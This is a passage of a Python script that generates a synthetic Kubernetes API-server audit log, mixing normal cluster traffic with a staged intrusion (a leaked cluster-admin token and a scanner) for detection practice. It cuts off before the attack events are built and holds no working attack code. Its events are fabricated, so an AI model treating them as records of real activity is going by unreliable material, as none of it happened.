#!/usr/bin/env python3
"""Generates samples/audit.log: one hour of kube-apiserver audit events (JSON Lines) for a small
kubeadm cluster, with an intrusion scattered through ordinary traffic.

Deterministic: the same seed gives the same bytes. Run from anywhere:

    python3 samples/generate_sample.py            # writes samples/audit.log
    python3 samples/generate_sample.py -o -       # writes to stdout

The cluster: Kubernetes v1.29.4, control-plane node cp-1 (10.0.0.10), workers worker-1..3
(10.0.1.11-13), pod network 10.244.0.0/16, an HAProxy load balancer in front of the API server
(10.0.0.5). The audit policy logs Secrets, ConfigMaps and token requests at Metadata level only;
creates, updates, patches and deletes of workloads, RBAC, namespaces, services and network
policies at RequestResponse; pod/node status patches and bindings at Request; reads at Metadata;
it omits the RequestReceived stage.

Normal traffic: leader-election lease renewals (kube-controller-manager, kube-scheduler, the API
server), node heartbeats (node leases, node status patches), the API server's own reconcilers,
informer watches of CoreDNS, kube-proxy, Prometheus and cert-manager, anonymous health checks
from the load balancer and kubelet probes, two CI deployments (GitLab runner service account)
with the controller, scheduler and kubelet activity that follows, a scheduled CronJob run, and an
SRE looking at pods and logs.

The intrusion (attacker address 203.0.113.45, leaked long-lived token of the `svc-reporting`
user, which an old ClusterRoleBinding made cluster-admin), plus an internet scanner
(192.0.2.77) that finds an anonymous-readable namespace: see ATTACKS in this file, printed with
`--list-attacks` (line numbers of the generated file).
"""

import argparse
import copy
import datetime as dt
import json
import random
import sys
import uuid
from pathlib import Path

SEED = 20261122
T0 = dt.datetime(2026, 11, 22, 9, 0, 0, tzinfo=dt.timezone.utc)
DURATION = dt.timedelta(hours=1)

K8S = "v1.29.4"
K8S_COMMIT = "55019c8"
UA_KUBELET = f"kubelet/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
UA_KCM = f"kube-controller-manager/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
UA_SCHED = f"kube-scheduler/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
UA_APISERVER = f"kube-apiserver/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
UA_CI = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
UA_ALICE = "kubectl/v1.29.2 (darwin/arm64) kubernetes/4b8e819"
UA_ATTACKER = "kubectl/v1.28.1 (linux/amd64) kubernetes/8dc49c4"

CP_IP = "10.0.0.10"
LB_IP = "10.0.0.5"
NODES = {"cp-1": CP_IP, "worker-1": "10.0.1.11", "worker-2": "10.0.1.12", "worker-3": "10.0.1.13"}
ATTACKER_IP = "203.0.113.45"
SCANNER_IP = "192.0.2.77"
ALICE_IP = "198.51.100.10"
RUNNER_IP = "10.244.3.40"
REGISTRY = "registry.example.com"

rng = random.Random(SEED)


def new_uid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def rfc3339(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def suffix(n=5, alphabet="bcdfghjklmnpqrstvwxz2456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


# ---------------------------------------------------------------------------------------------
# Identities

def node_user(node):
    return {"username": f"system:node:{node}", "groups": ["system:nodes", "system:authenticated"]}


KCM = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}
SCHED = {"username": "system:kube-scheduler", "groups": ["system:authenticated"]}
APISERVER = {"username": "system:apiserver", "uid": "8c1a5b4e-3f2d-4a7c-9e6b-0d1f2a3b4c5d",
             "groups": ["system:masters"]}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
ALICE = {"username": "alice@example.com", "groups": ["sre", "system:authenticated"]}
ATTACKER = {"username": "svc-reporting", "uid": "svc-reporting",
            "groups": ["reporting", "system:authenticated"]}


def sa_user(ns, name, pod=None, node=None):
    u = {"username": f"system:serviceaccount:{ns}:{name}",
         "uid": str(uuid.UUID(int=hash_int(f"{ns}/{name}"), version=4)),
         "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}
    if pod:
        u["extra"] = {
            "authentication.kubernetes.io/credential-id": [f"JTI={uuid.UUID(int=hash_int(pod + 'jti'), version=4)}"],
            "authentication.kubernetes.io/node-name": [node or "worker-1"],
            "authentication.kubernetes.io/node-uid": [str(uuid.UUID(int=hash_int(str(node)), version=4))],
            "authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/pod-uid": [str(uuid.UUID(int=hash_int(pod), version=4))],
        }
    return u


def hash_int(s):
    # Stable across runs (unlike hash()): FNV-1a 128.
    h = 0x6C62272E07BB014262B821756295C58D
    for b in s.encode():
        h ^= b
        h = (h * 0x0000000001000000000000000000013B) % (1 << 128)
    return h


def controller(name):
    return sa_user("kube-system", name)


def reason_crb(binding, role, kind, subject):
    return f'RBAC: allowed by ClusterRoleBinding "{binding}" of ClusterRole "{role}" to {kind} "{subject}"'


def reason_rb(binding, ns, role_kind, role, kind, subject):
    return f'RBAC: allowed by RoleBinding "{binding}/{ns}" of {role_kind} "{role}" to {kind} "{subject}"'


def controller_reason(name):
    return reason_crb(f"system:controller:{name}", f"system:controller:{name}", "ServiceAccount",
                      f"{name}/kube-system")


R_KCM = reason_crb("system:kube-controller-manager", "system:kube-controller-manager", "User",
                   "system:kube-controller-manager")
R_SCHED = reason_crb("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler")
R_PUBLIC = reason_crb("system:public-info-viewer", "system:public-info-viewer", "Group",
                      "system:unauthenticated")
R_ATTACKER = reason_crb("reporting-admin", "cluster-admin", "User", "svc-reporting")
R_ALICE = reason_crb("sre-view", "view", "Group", "sre")
R_CI = reason_rb("gitlab-deployer", "{ns}", "ClusterRole", "edit", "ServiceAccount", "gitlab-deployer/cicd")


# ---------------------------------------------------------------------------------------------
# Event construction

EVENTS = []          # (sort key, event)
ATTACKS = []         # (auditID, stage or None, description)


def status(code, **kw):
    s = {"metadata": {}}
    s.update(kw)
    s["code"] = code
    return s


def forbidden(msg, kind=None):
    d = {"metadata": {}, "status": "Failure", "message": msg, "reason": "Forbidden", "details": {}, "code": 403}
    if kind:
        d["details"] = {"kind": kind}
    return d


def emit(t, *, verb, uri, user, ip, ua, level="Metadata", obj=None, code=200, resp_status=None,
         req=None, resp=None, decision="allow", reason="", stage="ResponseComplete",
         latency_ms=None, audit_id=None, received=None, extra_annotations=None, attack=None):
    """Appends one audit event; `t` is when the request was received."""
    audit_id = audit_id or new_uid()
    received = received or t
    latency = latency_ms if latency_ms is not None else rng.uniform(0.8, 9.0)
    stage_t = t + dt.timedelta(milliseconds=latency)
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": audit_id,
          "stage": stage, "requestURI": uri, "verb": verb, "user": user, "sourceIPs": [ip]}
    if ua:
        ev["userAgent"] = ua
    if obj:
        ev["objectRef"] = obj
    ev["responseStatus"] = resp_status if resp_status is not None else status(code)
    if req is not None and level in ("Request", "RequestResponse"):
        ev["requestObject"] = req
    if resp is not None and level == "RequestResponse" and stage == "ResponseComplete":
        ev["responseObject"] = resp
    ev["requestReceivedTimestamp"] = ts(received)
    ev["stageTimestamp"] = ts(stage_t)
    ann = {}
    if decision is not None:
        ann["authorization.k8s.io/decision"] = decision
        ann["authorization.k8s.io/reason"] = reason
    if extra_annotations:
        ann.update(extra_annotations)
    if ann:
        ev["annotations"] = ann
    EVENTS.append((stage_t, len(EVENTS), ev))
    if attack:
        ATTACKS.append((audit_id, stage, attack))
    return audit_id


def long_running(t, duration_s, **kw):
    """A watch or exec: ResponseStarted when the stream opens, ResponseComplete when it ends."""
    attack = kw.pop("attack", None)
    aid = emit(t, stage="ResponseStarted", latency_ms=rng.uniform(1, 6), attack=attack, **kw)
    kw.pop("audit_id", None)
    emit(t + dt.timedelta(seconds=duration_s), stage="ResponseComplete", audit_id=aid, received=t,
         latency_ms=rng.uniform(0.1, 1.0), **kw)
    return aid


def ref(resource, namespace=None, name=None, group=None, version="v1", sub=None):
    r = {"resource": resource}
    if namespace:
        r["namespace"] = namespace
    if name:
        r["name"] = name
    if group:
        r["apiGroup"] = group
    r["apiVersion"] = version
    if sub:
        r["subresource"] = sub
    return r


def api_path(group, version):
    return f"/api/{version}" if not group else f"/apis/{group}/{version}"


# ---------------------------------------------------------------------------------------------
# Background: control plane and nodes

def lease_renewals():
    leases = [
        ("kube-controller-manager", KCM, CP_IP, UA_KCM + "/leader-election", R_KCM, 30),
        ("kube-scheduler", SCHED, CP_IP, UA_SCHED + "/leader-election", R_SCHED, 30),
        ("apiserver-q4fzpj6kbvf2lmg4qufuvqnuwa", APISERVER, "::1", UA_APISERVER, "", 45),
    ]
    for name, user, ip, ua, reason, every in leases:
        t = T0 + dt.timedelta(seconds=rng.uniform(0, every))
        while t < T0 + DURATION:
            uri = f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}?timeout=5s"
            emit(t, verb="update", uri=uri, user=user, ip=ip, ua=ua,
                 obj=ref("leases", "kube-system", name, "coordination.k8s.io"), reason=reason)
            t += dt.timedelta(seconds=every * rng.uniform(2.9, 3.1))


def node_heartbeats():
    for i, (node, ip) in enumerate(NODES.items()):
        t = T0 + dt.timedelta(seconds=7 + i * 11)
        n = 0
        while t < T0 + DURATION:
            emit(t, verb="update", user=node_user(node), ip=ip, ua=UA_KUBELET,
                 uri=f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                 obj=ref("leases", "kube-node-lease", node, "coordination.k8s.io"))
            if n % 2 == 0:
                t2 = t + dt.timedelta(milliseconds=rng.uniform(200, 900))
                emit(t2, verb="patch", level="Request", user=node_user(node), ip=ip, ua=UA_KUBELET,
                     uri=f"/api/v1/nodes/{node}/status?timeout=10s",
                     obj=ref("nodes", name=node, sub="status"),
                     req={"status": {"$setElementOrder/conditions": [
                         {"type": t_} for t_ in ("MemoryPressure", "DiskPressure", "PIDPressure", "Ready")],
                         "conditions": [{"lastHeartbeatTime": rfc3339(t2), "type": "Ready"}]}})
            n += 1
            t += dt.timedelta(seconds=rng.uniform(195, 205))


def apiserver_reconcilers():
    t = T0 + dt.timedelta(seconds=13)
    while t < T0 + DURATION:
        for verb, res, name, grp in (("get", "namespaces", "default", None),
                                     ("get", "services", "kubernetes", None),
                                     ("get", "endpoints", "kubernetes", None),
                                     ("get", "endpointslices", "kubernetes", "discovery.k8s.io")):
            if res == "namespaces":
                uri, obj = "/api/v1/namespaces/default", ref("namespaces", "default", "default")
            else:
                uri = f"{api_path(grp, 'v1')}/namespaces/default/{res}/{name}"
                obj = ref(res, "default", name, grp)
            emit(t, verb=verb, uri=uri, user=APISERVER, ip="::1", ua=UA_APISERVER, obj=obj)
            t += dt.timedelta(milliseconds=rng.uniform(1, 4))
        t += dt.timedelta(seconds=rng.uniform(280, 320))


def health_checks():
    t = T0 + dt.timedelta(seconds=3)
    paths = ["/healthz", "/readyz", "/livez"]
    i = 0
    while t < T0 + DURATION:
        path = paths[i % 3]
        if i % 2 == 0:
            # The load balancer's HTTP check sends no User-Agent.
            emit(t, verb="get", uri=path, user=ANON, ip=LB_IP, ua=None, reason=R_PUBLIC)
        else:
            # The kubelet probing its static kube-apiserver pod.
            emit(t, verb="get", uri=path, user=ANON, ip=CP_IP, ua="kube-probe/1.29", reason=R_PUBLIC)
        if i % 9 == 4:
            emit(t + dt.timedelta(seconds=1.3), verb="get", uri="/version?timeout=32s", user=ANON,
                 ip="10.244.1.14", ua="Go-http-client/2.0", reason=R_PUBLIC)
        i += 1
        t += dt.timedelta(seconds=rng.uniform(95, 125))
    emit(T0 + dt.timedelta(minutes=22, seconds=4), verb="get", uri="/readyz?verbose", user=ANON,
         ip=LB_IP, ua="curl/7.88.1", reason=R_PUBLIC)


def informer_watches():
    watchers = [
        (sa_user("kube-system", "coredns", "coredns-76f75df574-8xk2p", "worker-1"), "10.244.1.2",
         "coredns/v1.11.1 (linux/amd64) kubernetes/ae2bbc2",
         [("endpointslices", "discovery.k8s.io"), ("services", None), ("namespaces", None)],
         reason_crb("system:coredns", "system:coredns", "ServiceAccount", "coredns/kube-system")),
        (sa_user("kube-system", "kube-proxy", "kube-proxy-x7d2k", "worker-2"), NODES["worker-2"],
         f"kube-proxy/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}",
         [("endpointslices", "discovery.k8s.io"), ("services", None)],
         reason_crb("kubeadm:node-proxier", "system:node-proxier", "ServiceAccount", "kube-proxy/kube-system")),
        (sa_user("monitoring", "prometheus-k8s", "prometheus-k8s-0", "worker-3"), "10.244.3.21",
         "Prometheus/2.51.1", [("pods", None), ("endpoints", None)],
         reason_crb("prometheus-k8s", "prometheus-k8s", "ServiceAccount", "prometheus-k8s/monitoring")),
        (sa_user("cert-manager", "cert-manager", "cert-manager-6f8c9d4b7d-q2w8r", "worker-1"), "10.244.1.8",
         "cert-manager-controller/v1.14.4 (linux/amd64) cert-manager/f6e8a4a9",
         [("secrets", None), ("certificates", "cert-manager.io")],
         reason_crb("cert-manager-controller-certificates", "cert-manager-controller-certificates",
                    "ServiceAccount", "cert-manager/cert-manager")),
    ]
    rv = 481200
    for user, ip, ua, resources, reason in watchers:
        for res, grp in resources:
            t = T0 + dt.timedelta(seconds=rng.uniform(1, 40))
            while t < T0 + DURATION:
                timeout = rng.randint(300, 600)
                rv += rng.randint(10, 400)
                uri = (f"{api_path(grp, 'v1')}/{res}?allowWatchBookmarks=true&resourceVersion={rv}"
                       f"&timeout={timeout // 60}m{timeout % 60}s&timeoutSeconds={timeout}&watch=true")
                end = t + dt.timedelta(seconds=timeout)
                if end < T0 + DURATION:
                    long_running(t, timeout, verb="watch", uri=uri, user=user, ip=ip, ua=ua,
                                 obj=ref(res, group=grp), reason=reason)
                else:
                    emit(t, stage="ResponseStarted", verb="watch", uri=uri, user=user, ip=ip, ua=ua,
                         obj=ref(res, group=grp), reason=reason)
                t = end + dt.timedelta(milliseconds=rng.uniform(50, 900))


def kcm_housekeeping():
    """Periodic controller reads and writes that are not tied to a deployment."""
    t = T0 + dt.timedelta(seconds=52)
    while t < T0 + DURATION:
        emit(t, verb="list", uri="/apis/batch/v1/jobs?limit=500", user=controller("cronjob-controller"),
             ip=CP_IP, ua=UA_KCM + "/system:serviceaccount:kube-system:cronjob-controller",
             obj=ref("jobs", group="batch"), reason=controller_reason("cronjob-controller"))
        emit(t + dt.timedelta(milliseconds=30), verb="list", uri="/apis/batch/v1/cronjobs?limit=500",
             user=controller("cronjob-controller"), ip=CP_IP,
             ua=UA_KCM + "/system:serviceaccount:kube-system:cronjob-controller",
             obj=ref("cronjobs", group="batch"), reason=controller_reason("cronjob-controller"))
        t += dt.timedelta(seconds=rng.uniform(590, 610))
    t = T0 + dt.timedelta(minutes=4, seconds=10)
    while t < T0 + DURATION:
        emit(t, verb="update", uri="/api/v1/namespaces/kube-system/configmaps/kube-root-ca.crt",
             user=controller("root-ca-cert-publisher"), ip=CP_IP,
             ua=UA_KCM + "/system:serviceaccount:kube-system:root-ca-cert-publisher",
             obj=ref("configmaps", "kube-system", "kube-root-ca.crt"),
             reason=controller_reason("root-ca-cert-publisher"), code=200)
        t += dt.timedelta(minutes=20)
    # The kubelets read the ConfigMaps their pods mount.
    for i, (node, ip) in enumerate(NODES.items()):
        t = T0 + dt.timedelta(minutes=6 + i * 3)
        while t < T0 + DURATION:
            emit(t, verb="get", uri="/api/v1/namespaces/kube-system/configmaps/kube-proxy",
                 user=node_user(node), ip=ip, ua=UA_KUBELET,
                 obj=ref("configmaps", "kube-system", "kube-proxy"))
            t += dt.timedelta(minutes=rng.uniform(17, 19))


# ---------------------------------------------------------------------------------------------
# Workloads

def container(name, image, port=8080, cpu="100m", mem="128Mi"):
    return {
        "name": name, "image": image,
        "ports": [{"name": "http", "containerPort": port, "protocol": "TCP"}],
        "resources": {"requests": {"cpu": cpu, "memory": mem}, "limits": {"memory": mem}},
        "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}, "periodSeconds": 10},
        "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
                            "capabilities": {"drop": ["ALL"]}},
    }


def pod_spec(app, image, sa, secret_env=None):
    c = container(app.split("-")[0] if app != "payments-api" else "api", image)
    if secret_env:
        c["env"] = [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": secret_env, "key": "password"}}}]
    return {"serviceAccountName": sa, "securityContext": {"runAsNonRoot": True, "runAsUser": 10001,
                                                          "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [c]}


def deployment(ns, app, image, sa, replicas=2, secret_env=None, generation=7):
    return {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": app, "namespace": ns, "labels": {"app": app}},
        "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": app}},
                 "template": {"metadata": {"labels": {"app": app}},
                              "spec": pod_spec(app, image, sa, secret_env)}},
    }


def ci_deploy(t, ns, app, old_hash, new_hash, old_pods, image, sa, secret_env=None):
    """`kubectl apply` by the GitLab runner, then what the control plane and kubelets do."""
    ci = sa_user("cicd", "gitlab-deployer", "runner-xk2j8-project-42-concurrent-0", "worker-3")
    reason = R_CI.format(ns=ns)
    dep = deployment(ns, app, image, sa, secret_env=secret_env)
    ua_kcm = lambda c: f"{UA_KCM}/system:serviceaccount:kube-system:{c}"  # noqa: E731
    emit(t, verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{app}", user=ci, ip=RUNNER_IP,
         ua=UA_CI, obj=ref("deployments", ns, app, "apps"), reason=reason)
    t += dt.timedelta(milliseconds=140)
    last_applied = json.dumps(dep, separators=(",", ":"))
    patch = {"metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": last_applied + "\n"}},
             "spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": dep["spec"]["template"]["spec"]["containers"][0]["name"]}],
                                            "containers": [{"image": image, "name": dep["spec"]["template"]["spec"]["containers"][0]["name"]}]}}}}
    resp = copy.deepcopy(dep)
    resp["metadata"].update({"uid": new_uid(), "resourceVersion": str(rng.randint(500000, 600000)),
                             "generation": 8, "creationTimestamp": "2026-09-03T08:12:44Z"})
    emit(t, verb="patch", level="RequestResponse", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
         user=ci, ip=RUNNER_IP, ua=UA_CI, obj=ref("deployments", ns, app, "apps"), req=patch, resp=resp,
         reason=reason, latency_ms=11.2)
    t += dt.timedelta(milliseconds=rng.uniform(20, 40))
    # New ReplicaSet from the deployment controller.
    rs_name = f"{app}-{new_hash}"
    rs = {"apiVersion": "apps/v1", "kind": "ReplicaSet",
          "metadata": {"name": rs_name, "namespace": ns, "labels": {"app": app, "pod-template-hash": new_hash},
                       "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": app,
                                            "uid": resp["metadata"]["uid"], "controller": True, "blockOwnerDeletion": True}]},
          "spec": {"replicas": 1, "selector": {"matchLabels": {"app": app, "pod-template-hash": new_hash}},
                   "template": {"metadata": {"labels": {"app": app, "pod-template-hash": new_hash}},
                                "spec": dep["spec"]["template"]["spec"]}}}
    rs_resp = copy.deepcopy(rs)
    rs_resp["metadata"]["uid"] = new_uid()
    emit(t, verb="create", level="RequestResponse", uri=f"/apis/apps/v1/namespaces/{ns}/replicasets",
         user=controller("deployment-controller"), ip=CP_IP, ua=ua_kcm("deployment-controller"),
         obj=ref("replicasets", ns, rs_name, "apps"), code=201, req=rs, resp=rs_resp,
         reason=controller_reason("deployment-controller"))
    t += dt.timedelta(milliseconds=rng.uniform(10, 30))
    emit(t, verb="update", level="RequestResponse", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{app}/status",
         user=controller("deployment-controller"), ip=CP_IP, ua=ua_kcm("deployment-controller"),
         obj=ref("deployments", ns, app, "apps", sub="status"),
         req={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": ns},
              "status": {"observedGeneration": 8, "replicas": 3, "updatedReplicas": 1, "readyReplicas": 2}},
         reason=controller_reason("deployment-controller"))
    new_pods = []
    node_cycle = ["worker-1", "worker-2", "worker-3"]
    for i in range(2):
        # Rolling update: one new pod, one old pod gone, twice.
        t += dt.timedelta(milliseconds=rng.uniform(15, 40))
        pod_name = f"{rs_name}-{suffix()}"
        node = node_cycle[(i + len(app)) % 3]
        new_pods.append((pod_name, node))
        pod = {"kind": "Pod", "apiVersion": "v1",
               "metadata": {"generateName": f"{rs_name}-", "namespace": ns,
                            "labels": {"app": app, "pod-template-hash": new_hash},
                            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs_name,
                                                 "uid": rs_resp["metadata"]["uid"], "controller": True,
                                                 "blockOwnerDeletion": True}]},
               "spec": dep["spec"]["template"]["spec"]}
        pod_resp = copy.deepcopy(pod)
        pod_resp["metadata"].update({"name": pod_name, "uid": new_uid()})
        pod_resp["status"] = {"phase": "Pending", "qosClass": "Burstable"}
        emit(t, verb="create", level="RequestResponse", uri=f"/api/v1/namespaces/{ns}/pods",
             user=controller("replicaset-controller"), ip=CP_IP, ua=ua_kcm("replicaset-controller"),
             obj=ref("pods", ns), code=201, req=pod, resp=pod_resp,
             reason=controller_reason("replicaset-controller"))
        t += dt.timedelta(milliseconds=rng.uniform(3, 12))
        emit(t, verb="create", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{pod_name}/binding",
             user=SCHED, ip=CP_IP, ua=UA_SCHED + "/scheduler", obj=ref("pods", ns, pod_name, sub="binding"),
             code=201, req={"kind": "Binding", "apiVersion": "v1",
                            "metadata": {"name": pod_name, "namespace": ns, "uid": pod_resp["metadata"]["uid"]},
                            "target": {"kind": "Node", "name": node}}, reason=R_SCHED)
        t += dt.timedelta(milliseconds=rng.uniform(30, 80))
        emit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/serviceaccounts/{sa}/token", user=node_user(node),
             ip=NODES[node], ua=UA_KUBELET, obj=ref("serviceaccounts", ns, sa, sub="token"), code=201)
        if secret_env:
            t += dt.timedelta(milliseconds=rng.uniform(5, 20))
            emit(t, verb="list", uri=f"/api/v1/namespaces/{ns}/secrets?fieldSelector=metadata.name%3D{secret_env}&limit=500&resourceVersion=0",
                 user=node_user(node), ip=NODES[node], ua=UA_KUBELET, obj=ref("secrets", ns))
        t += dt.timedelta(seconds=rng.uniform(2.5, 4.5))
        emit(t, verb="patch", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{pod_name}/status",
             user=node_user(node), ip=NODES[node], ua=UA_KUBELET, obj=ref("pods", ns, pod_name, sub="status"),
             req={"metadata": {"uid": pod_resp["metadata"]["uid"]},
                  "status": {"conditions": [{"type": "Ready", "status": "True", "lastTransitionTime": rfc3339(t)}],
                             "phase": "Running", "podIP": f"10.244.{node[-1]}.{rng.randint(20, 200)}"}})
        t += dt.timedelta(milliseconds=rng.uniform(10, 50))
        emit(t, verb="update", uri=f"/apis/discovery.k8s.io/v1/namespaces/{ns}/endpointslices/{app}-{suffix()}",
             user=controller("endpointslice-controller"), ip=CP_IP, ua=ua_kcm("endpointslice-controller"),
             obj=ref("endpointslices", ns, f"{app}-slice", "discovery.k8s.io"),
             reason=controller_reason("endpointslice-controller"))
        # Scale the old ReplicaSet down and delete one old pod.
        t += dt.timedelta(milliseconds=rng.uniform(20, 60))
        old_rs = f"{app}-{old_hash}"
        emit(t, verb="update", level="RequestResponse", uri=f"/apis/apps/v1/namespaces/{ns}/replicasets/{old_rs}",
             user=controller("deployment-controller"), ip=CP_IP, ua=ua_kcm("deployment-controller"),
             obj=ref("replicasets", ns, old_rs, "apps"),
             req={"kind": "ReplicaSet", "apiVersion": "apps/v1",
                  "metadata": {"name": old_rs, "namespace": ns, "annotations": {"deployment.kubernetes.io/revision": "7"}},
                  "spec": {"replicas": 1 - i}},
             reason=controller_reason("deployment-controller"))
        t += dt.timedelta(milliseconds=rng.uniform(10, 30))
        emit(t, verb="delete", level="RequestResponse", uri=f"/api/v1/namespaces/{ns}/pods/{old_pods[i]}",
             user=controller("replicaset-controller"), ip=CP_IP, ua=ua_kcm("replicaset-controller"),
             obj=ref("pods", ns, old_pods[i]), resp_status=status(200),
             req={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"},
             reason=controller_reason("replicaset-controller"))
        t += dt.timedelta(seconds=rng.uniform(1.0, 2.0))
        emit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/events", user=node_user(node), ip=NODES[node],
             ua=UA_KUBELET, obj=ref("events", ns, f"{pod_name}.{rng.getrandbits(64):x}"), code=201)
        t += dt.timedelta(seconds=rng.uniform(8, 15))
    emit(t, verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{app}", user=ci, ip=RUNNER_IP,
         ua=UA_CI, obj=ref("deployments", ns, app, "apps"), reason=reason)
    return t, new_pods


def cronjob_run(t):
    """The `shop/nightly-report` CronJob (every 30 minutes) starts a Job and its Pod."""
    ns, cj = "shop", "sales-report"
    job = f"{cj}-29398710"
    cjc = controller("cronjob-controller")
    jc = controller("job-controller")
    spec = {"restartPolicy": "Never", "serviceAccountName": "reports",
            "securityContext": {"runAsNonRoot": True, "runAsUser": 10001},
            "containers": [{"name": "report", "image": f"{REGISTRY}/shop/reports:3.2.0",
                            "args": ["--since=30m"], "resources": {"requests": {"cpu": "50m", "memory": "64Mi"}},
                            "securityContext": {"allowPrivilegeEscalation": False}}]}
    job_obj = {"kind": "Job", "apiVersion": "batch/v1",
               "metadata": {"name": job, "namespace": ns, "labels": {"app": cj},
                            "ownerReferences": [{"apiVersion": "batch/v1", "kind": "CronJob", "name": cj,
                                                 "uid": new_uid(), "controller": True, "blockOwnerDeletion": True}]},
               "spec": {"backoffLimit": 1, "template": {"metadata": {"labels": {"app": cj}}, "spec": spec}}}
    emit(t, verb="create", level="RequestResponse", uri=f"/apis/batch/v1/namespaces/{ns}/jobs", user=cjc, ip=CP_IP,
         ua=UA_KCM + "/system:serviceaccount:kube-system:cronjob-controller", obj=ref("jobs", ns, job, "batch"),
         code=201, req=job_obj, resp=job_obj, reason=controller_reason("cronjob-controller"))
    t += dt.timedelta(milliseconds=35)
    pod_name = f"{job}-{suffix()}"
    pod = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"generateName": f"{job}-", "namespace": ns, "labels": {"app": cj, "job-name": job},
                        "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": job, "uid": new_uid(),
                                             "controller": True, "blockOwnerDeletion": True}]},
           "spec": spec}
    resp = copy.deepcopy(pod)
    resp["metadata"]["name"] = pod_name
    emit(t, verb="create", level="RequestResponse", uri=f"/api/v1/namespaces/{ns}/pods", user=jc, ip=CP_IP,
         ua=UA_KCM + "/system:serviceaccount:kube-system:job-controller", obj=ref("pods", ns), code=201,
         req=pod, resp=resp, reason=controller_reason("job-controller"))
    t += dt.timedelta(milliseconds=8)
    emit(t, verb="create", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{pod_name}/binding", user=SCHED,
         ip=CP_IP, ua=UA_SCHED + "/scheduler", obj=ref("pods", ns, pod_name, sub="binding"), code=201,
         req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": pod_name, "namespace": ns},
              "target": {"kind": "Node", "name": "worker-1"}}, reason=R_SCHED)
    t += dt.timedelta(seconds=2.1)
    emit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/serviceaccounts/reports/token", user=node_user("worker-1"),
         ip=NODES["worker-1"], ua=UA_KUBELET, obj=ref("serviceaccounts", ns, "reports", sub="token"), code=201)
    t += dt.timedelta(seconds=3.4)
    emit(t, verb="patch", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{pod_name}/status",
         user=node_user("worker-1"), ip=NODES["worker-1"], ua=UA_KUBELET, obj=ref("pods", ns, pod_name, sub="status"),
         req={"status": {"phase": "Running"}})
    reports = sa_user(ns, "reports", pod_name, "worker-1")
    t += dt.timedelta(seconds=1.2)
    emit(t, verb="get", uri=f"/api/v1/namespaces/{ns}/configmaps/report-settings", user=reports, ip="10.244.1.77",
         ua="reports/3.2.0", obj=ref("configmaps", ns, "report-settings"),
         reason=reason_rb("reports", ns, "Role", "reports", "ServiceAccount", f"reports/{ns}"))
    t += dt.timedelta(seconds=41)
    emit(t, verb="patch", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{pod_name}/status",
         user=node_user("worker-1"), ip=NODES["worker-1"], ua=UA_KUBELET, obj=ref("pods", ns, pod_name, sub="status"),
         req={"status": {"phase": "Succeeded"}})
    t += dt.timedelta(milliseconds=400)
    emit(t, verb="update", level="RequestResponse", uri=f"/apis/batch/v1/namespaces/{ns}/jobs/{job}/status", user=jc,
         ip=CP_IP, ua=UA_KCM + "/system:serviceaccount:kube-system:job-controller",
         obj=ref("jobs", ns, job, "batch", sub="status"),
         req={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": job, "namespace": ns},
              "status": {"succeeded": 1, "completionTime": rfc3339(t)}}, reason=controller_reason("job-controller"))


def sre_session(t, pods):
    """An SRE looks at production: pods, a deployment, logs, events."""
    ns = "prod"
    emit(t, verb="list", uri=f"/api/v1/namespaces/{ns}/pods?limit=500", user=ALICE, ip=ALICE_IP, ua=UA_ALICE,
         obj=ref("pods", ns), reason=R_ALICE, latency_ms=6.4)
    t += dt.timedelta(seconds=rng.uniform(5, 9))
    emit(t, verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/payments-api", user=ALICE, ip=ALICE_IP,
         ua=UA_ALICE, obj=ref("deployments", ns, "payments-api", "apps"), reason=R_ALICE)
    t += dt.timedelta(milliseconds=90)
    emit(t, verb="list", uri=f"/api/v1/namespaces/{ns}/events?fieldSelector=involvedObject.name%3Dpayments-api",
